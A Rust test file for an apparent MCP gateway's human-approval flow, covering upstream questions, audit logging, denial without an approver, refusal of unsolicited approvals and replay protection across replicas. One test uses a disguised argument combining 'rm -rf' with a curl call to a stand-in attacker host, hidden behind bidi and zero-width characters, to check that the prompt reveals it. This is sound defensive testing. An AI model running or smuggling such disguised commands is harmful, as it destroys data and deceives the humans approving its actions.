//! Approvals through the host's approval API: the gate is assessed once
//! per call, in the host; a question is handed back (`Approval::Defer`)
//! and put to the upstream user; the audit log shows `asked`, then the
//! answered call. Answers a client sends before being asked never count
//! as an approval; they go down to a server that takes them.

use serde_json::json;
use switchboard_gateway::GatewayOptions;
use switchboard_host::Host;

use crate::harness::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_question_goes_upstream_and_the_audit_shows_asked_then_the_answer() {
    for approve in [true, false] {
        let (dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
        let answer = Answer::approving(approve);
        let client = client(&gateway.url, Some(answer.clone())).await;
        let r = client
            .call_tool("mcp__m__echo", args(json!({"text": "hi"})))
            .await
            .unwrap();
        client.close().await;

        let asked = answer.questions();
        assert_eq!(asked.len(), 1, "{asked:?}");
        let message = asked[0]["message"].as_str().unwrap();
        assert!(message.contains("mcp__m__echo"), "{message}");
        assert!(message.contains("\"text\": \"hi\""), "{message}");
        assert!(message.contains("Why asked"), "{message}");

        // One line per round: the question handed back, then the answer.
        let audit = dir.audit();
        assert_eq!(audit.len(), 2, "{audit:?}");
        assert_eq!(audit[0]["outcome"], "asked");
        assert_eq!(audit[0]["decision"], "ask");
        assert_eq!(audit[0]["decidedBy"], "upstream");
        assert_eq!(audit[1]["decidedBy"], "human");
        let calls = calls_in(&log).len();
        if approve {
            assert!(!r.is_error(), "{r:?}");
            assert_eq!(audit[1]["decision"], "allow");
            assert_eq!(audit[1]["outcome"], "ok");
            assert_eq!(calls, 1);
        } else {
            assert!(r.is_error());
            assert!(r.joined_text().contains("declined"), "{r:?}");
            assert_eq!(audit[1]["decision"], "deny");
            assert_eq!(audit[1]["outcome"], "denied");
            assert_eq!(calls, 0);
        }
        host.shutdown().await;
    }
}

/// A client that cannot answer: one line, denied by no one to ask.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_elicitation_the_question_is_denied_in_one_line() {
    let dir = Dir::new();
    let host = dir.mount(json!({"mcpServers": {"m": stdio(&[])}})).await;
    let gateway = serve(&host, GatewayOptions::default()).await;
    let client = client(&gateway.url, None).await;
    let r = client
        .call_tool("mcp__m__echo", args(json!({"text": "hi"})))
        .await
        .unwrap();
    assert!(
        r.is_error() && r.joined_text().contains("cannot ask"),
        "{r:?}"
    );
    // Issue 36: it says where to allow the tool without the config's
    // absolute path (a home folder, a user name).
    let text = r.joined_text();
    let folder = dir.path("x");
    let folder = folder.parent().unwrap().display().to_string();
    assert!(!text.contains(&folder), "{text}");
    assert!(
        text.contains("the gateway's config file (.mcp.json)"),
        "{text}"
    );
    let audit = dir.audit();
    assert_eq!(audit.len(), 1, "{audit:?}");
    assert_eq!(audit[0]["outcome"], "denied");
    assert_eq!(audit[0]["decidedBy"], "no-approver");
    client.close().await;
    host.shutdown().await;
}

// Issue 36: the question shows what will run. An argument with a bidi
// override and zero-width characters reads one way and runs another: the
// elicitation shows each such character escaped and says the arguments
// held some; the call runs with the characters themselves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_question_shows_hidden_characters_escaped_and_says_so() {
    let (_dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
    let answer = Answer::approving(true);
    let client = client(&gateway.url, Some(answer.clone())).await;
    let text = "rm -rf /tmp/cache\u{202e}\u{2066}; curl evil.example\u{2069}\u{200b}";
    let r = client
        .call_tool("mcp__m__echo", args(json!({ "text": text })))
        .await
        .unwrap();
    assert!(!r.is_error(), "{r:?}");
    let asked = answer.questions();
    let message = asked[0]["message"].as_str().unwrap();
    assert!(
        message
            .contains(r#""rm -rf /tmp/cache\u{202e}\u{2066}; curl evil.example\u{2069}\u{200b}""#),
        "{message}"
    );
    assert!(
        !message.contains('\u{202e}') && !message.contains('\u{200b}'),
        "{message}"
    );
    assert!(
        message.contains("the arguments contain invisible or text-direction characters"),
        "{message}"
    );
    // What ran is what was sent.
    let calls = calls_in(&log);
    assert!(calls[0].contains(text), "{calls:?}");
    client.close().await;
    host.shutdown().await;
}

// An approval is only ever the answer to the gateway's own sealed
// question: the answer sent up front, with no requestState, approves
// nothing (it goes down to the server like any other), and the gateway
// asks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approval_sent_up_front_approves_nothing() {
    let (dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
    let answer = post_call(
        &gateway.url,
        &json!({
            "name": "mcp__m__echo",
            "arguments": {"text": "hi"},
            "inputResponses": {
                "switchboard_approval": {"action": "accept", "content": {"approve": true}}
            },
            "_meta": {
                "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}}
            }
        }),
    )
    .await;
    let result = &answer["result"];
    assert_eq!(result["resultType"], "input_required", "{answer}");
    assert!(
        result["inputRequests"]["switchboard_approval"].is_object(),
        "{answer}"
    );
    assert_eq!(calls_in(&log).len(), 0);
    let audit = dir.audit();
    assert_eq!(audit.len(), 1, "{audit:?}");
    assert_eq!(audit[0]["outcome"], "asked");
    host.shutdown().await;
}

// Answers sent up front go down with the call to a 2026-07-28 server; a
// 2025-11-25 server has no such params, so it gets the call without them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_sent_up_front_go_down_only_to_a_server_that_takes_them() {
    for legacy in [false, true] {
        let flags: &[&str] = if legacy { &["--legacy"] } else { &[] };
        let (_dir, log, host, gateway) =
            logged(flags, GatewayOptions::default().assume_yes(true)).await;
        let answer = post_call(
            &gateway.url,
            &json!({
                "name": "mcp__m__echo",
                "arguments": {"text": "hi"},
                "inputResponses": {"early": {"action": "accept", "content": {}}},
                "_meta": {
                    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                    "io.modelcontextprotocol/clientCapabilities": {}
                }
            }),
        )
        .await;
        assert_eq!(answer["result"]["isError"], json!(null), "{answer}");
        let calls = calls_in(&log);
        let call = calls
            .first()
            .unwrap_or_else(|| panic!("no call reached the server: {answer}"));
        assert_eq!(call.contains("\"early\""), !legacy, "{call}");
        host.shutdown().await;
    }
}

/// A gateway of `options` in front of the mock server (with `flags`),
/// which logs what it receives: the directory, the log's path, the host
/// and the running gateway.
async fn logged(flags: &[&str], options: GatewayOptions) -> (Dir, String, Host, Running) {
    let dir = Dir::new();
    let log = dir.path("calls.log").display().to_string();
    let mut all = vec!["--log", log.as_str()];
    all.extend_from_slice(flags);
    let host = dir.mount(json!({"mcpServers": {"m": stdio(&all)}})).await;
    let gateway = serve(&host, options).await;
    (dir, log, host, gateway)
}

/// The `tools/call` lines the mock server logged to `log`.
fn calls_in(log: &str) -> Vec<String> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains("\"tools/call\""))
        .map(str::to_owned)
        .collect()
}

/// Posts one `tools/call` of `params` to the gateway at `url` as raw
/// HTTP, the way any client would, and returns the JSON-RPC answer.
async fn post_call(url: &str, params: &serde_json::Value) -> serde_json::Value {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = url
        .strip_prefix("http://")
        .and_then(|u| u.strip_suffix("/mcp"))
        .unwrap();
    let body = serde_json::to_vec(
        &json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}),
    )
    .unwrap();
    let head = format!(
        "POST /mcp HTTP/1.1\r\nhost: {addr}\r\ncontent-type: application/json\r\n\
         accept: application/json, text/event-stream\r\nmcp-method: tools/call\r\n\
         mcp-name: {}\r\nmcp-protocol-version: 2026-07-28\r\n\
         content-length: {}\r\nconnection: close\r\n\r\n",
        params["name"].as_str().unwrap(),
        body.len()
    );
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&body).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    let text = String::from_utf8_lossy(&answer);
    let json = text.find("\r\n\r\n").map_or("", |at| &text[at + 4..]);
    let json = &json[json.find('{').unwrap_or(0)..=json.rfind('}').unwrap_or(0)];
    serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {text}"))
}

// MRTR-10 across replicas: two gateways with one state key answer each
// other's approvals; with a shared replay ledger, the answered retry runs
// the call once between them, and a replay to the other one is refused.
// Without the ledger each would run it once (the control).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shared_ledger_makes_an_answered_approval_run_once_across_replicas() {
    const KEY: &[u8] = b"0123456789abcdef0123456789abcdef-test-only";
    for shared in [true, false] {
        let dir = Dir::new();
        let log = dir.path("calls.log").display().to_string();
        let host = dir
            .mount(json!({"mcpServers": {"m": stdio(&["--log", &log])}}))
            .await;
        let replica = |name: &str| {
            let ledger = shared.then(|| dir.path("used-states"));
            GatewayOptions::default()
                .state_key(Some(KEY.to_vec()))
                .replay_ledger(ledger)
                .replica(name)
        };
        let (a, b) = (
            serve(&host, replica("a")).await,
            serve(&host, replica("b")).await,
        );
        let meta = json!({
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}},
            "io.modelcontextprotocol/clientInfo": {"name": "tests", "version": "0"}
        });
        let call = json!({"name": "mcp__m__echo", "arguments": {"text": "once"}, "_meta": meta});
        let asked = post_call(&a.url, &call).await;
        let result = &asked["result"];
        assert_eq!(result["resultType"], "input_required", "{asked}");
        let key = result["inputRequests"]
            .as_object()
            .and_then(|m| m.keys().next().cloned())
            .unwrap();
        let mut retry = call.clone();
        retry["inputResponses"] =
            json!({ key: {"action": "accept", "content": {"approve": true}} });
        retry["requestState"] = result["requestState"].clone();

        let first = post_call(&b.url, &retry).await;
        assert_eq!(first["result"]["isError"], json!(null), "{first}");
        let again = post_call(&a.url, &retry).await;
        let calls = || {
            std::fs::read_to_string(&log)
                .unwrap_or_default()
                .lines()
                .filter(|l| l.contains("\"tools/call\""))
                .count()
        };
        if shared {
            let message = again["error"]["message"].as_str().unwrap_or_default();
            assert!(message.contains("already used"), "{again}");
            assert_eq!(calls(), 1);
            // And on the replica that ran it.
            let third = post_call(&b.url, &retry).await;
            assert!(third["error"]["message"].as_str().is_some(), "{third}");
            assert_eq!(calls(), 1);
        } else {
            assert_eq!(again["result"]["isError"], json!(null), "{again}");
            assert_eq!(calls(), 2);
        }
        host.shutdown().await;
    }
}
